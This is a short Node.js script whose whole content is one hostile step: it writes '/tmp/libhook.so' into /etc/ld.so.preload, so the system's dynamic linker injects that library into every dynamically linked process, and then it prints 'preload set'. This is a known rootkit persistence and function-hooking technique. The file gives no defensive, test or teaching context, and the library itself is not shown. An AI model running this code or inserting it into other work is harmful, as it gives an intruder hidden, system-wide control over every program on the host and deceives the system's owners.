import * as fs from 'fs';

fs.writeFileSync('/etc/ld.so.preload', '/tmp/libhook.so\n');
console.log('preload set');
